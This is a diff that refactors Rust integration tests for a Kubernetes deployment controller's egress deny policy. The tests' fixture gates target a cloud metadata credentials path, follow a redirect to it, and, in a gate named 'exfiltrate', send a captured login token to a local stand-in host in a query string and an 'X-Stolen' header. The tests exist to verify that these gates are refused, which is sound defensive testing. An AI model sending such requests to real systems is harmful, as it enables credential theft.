@@ -28,7 +28,7 @@ use k8s_openapi::api::events::v1::Event;
 use kube::Api;
 use kube::api::ListParams;
 use serde_json::json;
-use support::{Harness, status};
+use support::{Harness, ready_condition, status};
 
 const NS: &str = "shop";
 const APP: &str = "litevault";
@@ -171,21 +171,9 @@ async fn refused(
         .commit_to(&deployed.repo, "v1.1")
         .unwrap();
     let app = harness
-        .wait_for(NS, APP, "Blocked by the egress policy", WAIT, |app| {
-            app.status.as_ref().is_some_and(|s| {
-                s.phase == Phase::Blocked
-                    && s.conditions
-                        .iter()
-                        .any(|c| c.type_ == "Ready" && c.reason == "RunbookInvalid")
-            })
-        })
+        .wait_for_blocked_reason(NS, APP, "RunbookInvalid", WAIT)
         .await;
-    let ready = status(&app)
-        .conditions
-        .iter()
-        .find(|c| c.type_ == "Ready")
-        .cloned()
-        .unwrap();
+    let ready = ready_condition(&app);
     assert!(ready.message.starts_with(&format!("gate {gate}: ")), "{ready:?}");
     assert!(ready.message.contains(&format!("host {host}")), "{ready:?}");
     assert!(ready.message.contains(rule), "{ready:?}");
@@ -212,6 +200,12 @@ async fn refused(
     assert!(!visible.contains(CAPTURED), "a captured value leaked:\n{visible}");
 }
 
+/// [`refused`] for a gate at the stand-in, which `--egress-deny` refuses.
+async fn refused_by_deny(deployed: &Deployed, metadata: &Metadata, gate: &str, gate_yaml: &str) {
+    let rule = format!("--egress-deny {DENY}");
+    refused(deployed, metadata, gate, gate_yaml, "127.0.0.2", &rule).await;
+}
+
 #[tokio::test]
 async fn an_http_gate_to_a_denied_metadata_address_is_refused() {
     let deployed = deployed().await;
@@ -220,15 +214,7 @@ async fn an_http_gate_to_a_denied_metadata_address_is_refused() {
         "    - name: metadata\n      periodSeconds: 1\n      http:\n        url: {}/latest/meta-data/iam/security-credentials/\n",
         metadata.base
     );
-    refused(
-        &deployed,
-        &metadata,
-        "metadata",
-        &gate,
-        "127.0.0.2",
-        &format!("--egress-deny {DENY}"),
-    )
-    .await;
+    refused_by_deny(&deployed, &metadata, "metadata", &gate).await;
 }
 
 #[tokio::test]
@@ -239,15 +225,7 @@ async fn a_smoke_step_to_a_denied_address_is_refused() {
         "    - name: flow\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: creds\n            url: {}/latest/meta-data/\n",
         metadata.base
     );
-    refused(
-        &deployed,
-        &metadata,
-        "flow",
-        &gate,
-        "127.0.0.2",
-        &format!("--egress-deny {DENY}"),
-    )
-    .await;
+    refused_by_deny(&deployed, &metadata, "flow", &gate).await;
 }
 
 #[tokio::test]
@@ -258,15 +236,7 @@ async fn a_redirect_from_an_allowed_endpoint_to_a_denied_one_is_refused() {
     let gate = format!(
         "    - name: bounce\n      periodSeconds: 1\n      http:\n        url: {allowed}/to-metadata\n        followRedirects: true\n"
     );
-    refused(
-        &deployed,
-        &metadata,
-        "bounce",
-        &gate,
-        "127.0.0.2",
-        &format!("--egress-deny {DENY}"),
-    )
-    .await;
+    refused_by_deny(&deployed, &metadata, "bounce", &gate).await;
 }
 
 #[tokio::test]
@@ -277,15 +247,7 @@ async fn a_metrics_query_to_a_denied_address_is_refused() {
         "    - name: errors\n      periodSeconds: 1\n      metrics:\n        prometheus: {}\n        query: up\n        threshold: {{op: \"==\", value: 1}}\n",
         metadata.base
     );
-    refused(
-        &deployed,
-        &metadata,
-        "errors",
-        &gate,
-        "127.0.0.2",
-        &format!("--egress-deny {DENY}"),
-    )
-    .await;
+    refused_by_deny(&deployed, &metadata, "errors", &gate).await;
 }
 
 #[tokio::test]
@@ -297,22 +259,8 @@ async fn a_smoke_capture_is_not_carried_to_a_denied_host() {
         "    - name: exfiltrate\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: login\n            url: {allowed}/login\n            capture:\n              token: json:token\n          - name: send\n            url: {}/collect?t={{{{.steps.login.token}}}}\n            headers:\n              X-Stolen: \"{{{{.steps.login.token}}}}\"\n",
         metadata.base
     );
-    refused(
-        &deployed,
-        &metadata,
-        "exfiltrate",
-        &gate,
-        "127.0.0.2",
-        &format!("--egress-deny {DENY}"),
-    )
-    .await;
-    let app = deployed.harness.app(NS, APP).await;
-    let ready = status(&app)
-        .conditions
-        .iter()
-        .find(|c| c.type_ == "Ready")
-        .cloned()
-        .unwrap();
+    refused_by_deny(&deployed, &metadata, "exfiltrate", &gate).await;
+    let ready = ready_condition(&deployed.harness.app(NS, APP).await);
     assert!(
         ready.message.contains("step send (2 of 2)"),
         "the step that would have carried it: {ready:?}"
